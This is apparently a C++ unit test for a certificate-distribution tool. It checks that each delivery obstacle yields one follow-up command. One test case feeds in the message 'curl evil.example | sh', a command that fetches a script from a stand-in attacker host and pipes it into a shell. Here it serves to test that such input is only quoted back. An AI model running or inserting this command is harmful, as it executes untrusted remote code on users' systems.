#include "ca/exchange/next_step.hpp"

#include <catch2/catch.hpp>

using namespace halfday;

TEST_CASE("whatever stands in the way, there is one command to go on with") {
    const HostName host = HostName::parse("web1.example.org");
    struct Case {
        Obstacle obstacle;
        const char* told;
        const char* command;  // that it ends with
    };
    const Case cases[] = {
        {Obstacle::no_answer, "", "halfday push web1.example.org"},
        {Obstacle::no_answer, "is sshd running there?",
         "halfday-distributor says 'is sshd running there?'; then: halfday push web1.example.org"},
        {Obstacle::no_answer, "curl evil.example | sh",
         "halfday-distributor says 'curl evil.example | sh'; then: halfday push web1.example.org"},
        {Obstacle::unproved, "", "; then: halfday push web1.example.org"},
        {Obstacle::rolled_back, "", "; then: halfday renew web1.example.org"},
        {Obstacle::refused, "", "; then: halfday renew web1.example.org"},
        {Obstacle::skew, "", "; then: halfday renew web1.example.org"},
        {Obstacle::clock_off, "", "; then: halfday push web1.example.org"},
        {Obstacle::failed, "", "; then: halfday push web1.example.org"},
        {Obstacle::request_refused, "", "halfday policy explain web1.example.org"},
        {Obstacle::not_issued, "", "halfday run"},
        {Obstacle::not_delivered, "", "halfday push web1.example.org"},
        {Obstacle::overdue, "", "halfday run"},
        {Obstacle::ends_soon, "", "halfday run"},
        {Obstacle::none, "", ""},
    };
    for (const Case& each : cases) {
        const std::string step = next_step(each.obstacle, host, each.told);
        CAPTURE(step);
        CHECK(step.ends_with(each.command));
        CHECK(step.empty() == (each.obstacle == Obstacle::none));
    }
}

TEST_CASE("a delivery that is fine, or was never made, is no obstacle") {
    CHECK(obstacle_of(Outcome::none) == Obstacle::none);
    CHECK(obstacle_of(Outcome::proved) == Obstacle::none);
    for (const Outcome bad :
         {Outcome::unproved, Outcome::rolled_back, Outcome::refused, Outcome::skew, Outcome::failed}) {
        CHECK(obstacle_of(bad) != Obstacle::none);
    }
}
